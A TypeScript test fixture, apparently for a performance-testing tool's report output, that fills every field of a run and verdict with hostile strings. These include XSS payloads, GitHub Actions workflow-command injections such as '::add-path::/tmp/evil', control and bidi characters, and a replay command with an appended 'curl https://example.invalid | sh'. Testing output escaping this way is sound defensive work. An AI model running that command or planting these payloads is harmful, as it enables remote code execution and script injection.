import type { Comparison } from '../../src/model/comparison.ts';
import type { Finding } from '../../src/model/finding.ts';
import type { Run } from '../../src/model/run.ts';
import { healthyRun, metric, quiet, self, used } from './healthy-run.ts';
import { type Documents, limitsOf, unchanged, verdictOf } from './judged.ts';
import { mergeBase, pairsOf } from './pairs.ts';

/** What a service or a branch may be called by somebody who means harm. */
export const hostileTexts: readonly string[] = [
  '`@octocat` and ``` fences ``` @octocat',
  'a|b\\|c | @team/devs',
  'fixes #123 GH-77 https://example.invalid/?token=abc www.example.invalid',
  '</code></details></table><script>alert(1)</script><img src=x onerror=alert(1)>',
  'end --> of <!-- comment',
  'right\u202Eto\u2066left\u200B\u0007\u001b[31m\u009b1m\r\n::add-path::/tmp/evil',
  '::add-path::/tmp/evil',
  '```',
  'x ##[error]y ###[x] ##[',
  '\ud800 lone \udfff',
  '**bold** _soft_ ~~no~~ [link](javascript:alert(1)) ![i](x) $x$ :tada: {{x}} ${{ x }}',
  '### heading\n- list\n> quote\n1. one\n```\n~~~\n<details>',
];

/** A comparison whose texts all say so. */
function dressed(comparison: Comparison, text: string): Comparison {
  const shift = { commit: text, createdAt: text, runsAgo: 3, changePercent: 8 };
  return { ...comparison, kind: 'regression', accepted: text, reason: text, trail: [1, 2, 3], shift };
}

/** Every foreign text of a run and a verdict means harm. */
export function hostile(): Documents {
  const all = hostileTexts.join(' ');
  const long = `${'x'.repeat(1_000)}@octocat ##[error] \`\`\`\`\`\` `.repeat(100);
  const [first = '', second = '', third = ''] = hostileTexts;
  const broken: Finding = {
    kind: 'broken',
    id: `property.${first}`,
    sentence: all,
    measured: 3,
    limit: 1,
    unit: `ms|</td>\`@octocat`,
    evidence: [...hostileTexts, long],
    replay: "npx plimsoll replay 'u1' ; curl https://example.invalid | sh",
  };
  const run: Run = {
    ...healthyRun,
    version: second,
    suite: `${third} --> <!-- plimsoll:other --`,
    createdAt: first,
    source: { repository: first, commit: second, ref: hostileTexts.join('/') },
    runner: { ...healthyRun.runner, cpuModel: all, os: first, arch: second, node: third, image: all },
    configHash: first,
    phases: [...healthyRun.phases, { name: 'drain', durationMs: 1, summary: all }],
    metrics: [
      ...healthyRun.metrics,
      ...hostileTexts.map((text) => metric(`p95(${text})`, 'ms', 3)),
      ...hostileTexts.map((text) => metric(text, text, 3)),
    ],
    findings: [broken],
    steady: {
      ...healthyRun.steady,
      operations: hostileTexts.map((name, index) => ({
        ...healthyRun.steady.total,
        name,
        responseMs: { ...healthyRun.steady.total.responseMs, p95: index === 0 ? null : 31, p99: null },
      })),
    },
    base: {
      kind: 'paired',
      paired: {
        ...mergeBase,
        commit: first,
        name: all,
        pairs: pairsOf('test', 1, {}).map((pair) => ({ ...pair, base: hostileTexts.map((text) => metric(text, 'ms', 1)) })),
        failures: [...hostileTexts, long.slice(0, 2_000)],
        leftOut: hostileTexts,
        notes: hostileTexts,
      },
    },
    accepted: hostileTexts.map((text) => ({ metric: text, because: text, by: text })),
    startup: { readyMs: [312], emptyMs: [41], failures: [...hostileTexts, long] },
    beside: hostileTexts.map((name) => ({ name, use: used(0.2, { first: 1, max: 1, last: 1 }, { first: 1, max: 1, last: 1 }, quiet) })),
    operationCosts: hostileTexts.map((name, at) => ({
      name,
      operations: 100,
      users: 20,
      cpuMsPerOperation: at === 0 ? null : at,
      answerBytes: at,
      heldBytes: at === 0 ? null : 1_048_576 * at,
      heldDescriptors: at === 0 ? null : at,
    })),
    searches: [{ property: first, scenarios: 3, seed: 1, path: second, spread: [...hostileTexts] }],
    serviceOutput: [...hostileTexts, long],
    self: { ...self, runner: { kind: 'ok', sentence: all } },
  };
  const inconclusiveFinding: Finding = {
    kind: 'inconclusive',
    id: second,
    sentence: all,
    measured: null,
    limit: null,
    unit: '',
    evidence: hostileTexts,
  };
  return {
    run,
    verdict: verdictOf(run, {
      kind: 'fail',
      blocks: true,
      reason: all,
      findings: [broken, inconclusiveFinding, ...limitsOf(run)],
      comparisons: unchanged(run).map((each, at) => dressed(each, hostileTexts[at % hostileTexts.length] ?? '')),
      baseline: { runs: 0, pairs: 1, sentence: all },
    }),
  };
}
